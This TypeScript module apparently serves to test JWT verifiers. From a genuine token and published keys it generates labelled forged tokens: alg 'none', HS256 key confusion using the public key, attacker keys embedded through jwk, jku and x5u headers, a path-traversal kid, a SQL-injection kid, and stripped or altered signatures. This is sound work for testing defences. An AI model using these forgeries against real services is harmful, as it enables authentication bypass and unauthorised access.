import { createHmac, createPublicKey } from 'node:crypto';
import { decodeProtectedHeader, generateKeyPair, type JWK, SignJWT, UnsecuredJWT } from 'jose';

const base64Url = (value: unknown): string =>
  Buffer.from(JSON.stringify(value)).toString('base64url');

/**
 * Returns the tokens that an attacker can forge from a genuine token and the published keys (RFC 8725 sections 2 and
 * 3), each with a label.
 */
export async function forgeries(
  token: string,
  published: readonly JWK[],
): Promise<(readonly [string, string])[]> {
  const header = decodeProtectedHeader(token);
  const [, payload = '', signature = ''] = token.split('.');
  const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8'));
  const genuine = published.find(({ kid }) => kid === header.kid) ?? {};
  const alg = String(header.alg);
  const attacker = await generateKeyPair(alg, { extractable: true });
  const signed = (members: Record<string, unknown>) =>
    new SignJWT(claims)
      .setProtectedHeader({ ...header, alg, ...members })
      .sign(attacker.privateKey);

  const publicKey = createPublicKey({ key: { ...genuine }, format: 'jwk' });
  const confused = (key: string | Buffer): string => {
    const input = `${base64Url({ ...header, alg: 'HS256' })}.${payload}`;
    return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
  };
  const { privateKey: _, ...attackersPublic } = attacker;
  const jwk = await crypto.subtle.exportKey('jwk', attackersPublic.publicKey);

  return [
    ['alg none', new UnsecuredJWT(claims).encode()],
    [
      'alg none with the old signature',
      `${base64Url({ ...header, alg: 'none' })}.${payload}.${signature}`,
    ],
    [
      'HS256 by the public key as PEM',
      confused(publicKey.export({ type: 'spki', format: 'pem' }).toString()),
    ],
    ['HS256 by the public key as DER', confused(publicKey.export({ type: 'spki', format: 'der' }))],
    ['HS256 by the public key as a JWK', confused(JSON.stringify(genuine))],
    ['HS256 by the x of the public key', confused(Buffer.from(String(genuine.x), 'base64url'))],
    ['HS256 by nothing', confused('')],
    ['another key under the right kid', await signed({})],
    ['another key with its own kid', await signed({ kid: 'A'.repeat(43) })],
    ['another key without a kid', await signed({ kid: undefined })],
    ['another key in jwk', await signed({ jwk })],
    ['another key at jku', await signed({ jku: 'http://127.0.0.1:1/jwks.json' })],
    ['another key at x5u', await signed({ x5u: 'http://127.0.0.1:1/cert.pem' })],
    ['a kid that is a path', await signed({ kid: '../../dev/null' })],
    ['a kid that is SQL', await signed({ kid: "' OR 1=1 --" })],
    [
      'the genuine signature under another kid',
      `${base64Url({ ...header, kid: published.at(-1)?.kid })}.${payload}.${signature}`,
    ],
    [
      'the genuine signature without a kid',
      `${base64Url({ alg, typ: header.typ })}.${payload}.${signature}`,
    ],
    [
      'the genuine signature over other claims',
      `${token.split('.')[0]}.${base64Url({ ...claims, sub: '1' })}.${signature}`,
    ],
    ['a signature of zeros', `${token.split('.')[0]}.${payload}.${'A'.repeat(86)}`],
  ];
}
